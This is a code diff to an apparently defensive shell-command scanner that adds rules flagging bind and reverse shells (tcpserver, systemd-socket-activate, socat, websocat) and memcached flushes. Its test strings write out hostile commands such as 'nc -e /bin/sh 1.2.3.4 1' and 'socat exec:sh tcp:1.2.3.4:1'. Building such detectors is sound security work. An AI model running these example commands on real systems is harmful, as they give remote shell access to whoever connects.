@@ -1,4 +1,5 @@
 import { inlineCode } from "../code/inline.js";
+import { openerOf } from "../read/wrappers.js";
 import type { ShellWord, SimpleCommand } from "../types.js";
 import { isDecoder, isDownload, isShell, producersOf, producersOfWord, runsCode } from "./flows.js";
 import { type Clue, type Condition, names, subject } from "./row.js";
@@ -103,6 +104,22 @@ const shellOverNetwork: Condition = ({ command }) =>
     ? command.feeds.find(({ program }) => /^(?:nc|ncat|netcat|socat|telnet|openssl)$/.test(program))?.name
     : undefined;
 
+/** Programs that carry a shell into a container, to another user or another machine, not to whoever connects. */
+const CARRIES_SHELL =
+  /^(?:gosu|su-exec|setuidgid|chpst|setpriv|runuser|capsh|numactl|prlimit|cgexec|ip|nsenter)$/;
+const ADDRESS =
+  /^(?:--?(?:l|p|listen|port|bind|addr\w*)=?)?(?:(?:[a-z][\w+-]*:)?(?:\/\/)?(?:(?:\d{1,3}\.){3}\d{1,3}|\[[\da-f:]*\]|\*|0|localhost)?:\d{2,5}|(?:\d{1,3}\.){3}\d{1,3}|\d{2,5}|wss?(?:-l)?:\S+)$/i;
+
+/** `systemd-socket-activate -l 2323 --inetd /bin/sh -i`, `tcpserver 0 2323 sh`: an address, and a shell for who calls. */
+const servesShell: Condition = ({ command: { program, args } }) => {
+  if (!args.some(({ text }) => text.endsWith("sh"))) return undefined;
+  if (program === "" || runsCode(program) || CARRIES_SHELL.test(program) || openerOf(program) !== undefined)
+    return undefined;
+  const at = args.findIndex(({ text }) => /^(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|k|fi)?sh$/.test(text));
+  if (at < 1 || args.slice(at + 1).some(({ text }) => !/^-[il]+$/.test(text))) return undefined;
+  return args.slice(0, at).find(({ text }) => ADDRESS.test(text));
+};
+
 /** `echo flush_all | nc localhost 11211`: the protocols of memcached and redis are plain text. */
 const plainProtocol: Condition = ({ command }) =>
   inputText(command).find(({ text }) =>
@@ -140,7 +157,10 @@ export const RULES = subject("remote-code", [
     when: (call) => call.given("e", "exec", "c", "sh-exec", "lua-exec")[0],
     rule: "remote-code.reverse-shell", reason: "gives a program to whoever connects",
     match: ["nc -e /bin/sh 1.2.3.4 1"], not_match: ["nc -z localhost 5432"] },
-  { program: "socat", dry: "", word: /(?:^|!!)(?:exec|system|shell)[:=]/i, rule: "remote-code.reverse-shell",
+  { program: "*", when: servesShell, rule: "remote-code.reverse-shell", reason: "gives a shell to whoever connects",
+    match: ["tcpserver 0 2323 /bin/sh", "systemd-socket-activate -l 0.0.0.0:99 --inetd -a /bin/sh -i"],
+    not_match: ["timeout 30 bash", "docker run -p 8080:80 alpine sh", "mytool 8080 install.sh"] },
+  { program: "socat|websocat", dry: "", word: /(?:^|!!)(?:exec|system|shell|sh-c|cmd)[:=]|^--exec$/i, rule: "remote-code.reverse-shell",
     reason: "gives a program to whoever connects", match: ["socat exec:sh tcp:1.2.3.4:1"],
     not_match: ["socat TCP-LISTEN:8080,fork TCP:localhost:80"] },
   { program: "nc|ncat|netcat|telnet|socat", dry: "", when: plainProtocol, rule: "database.flush",
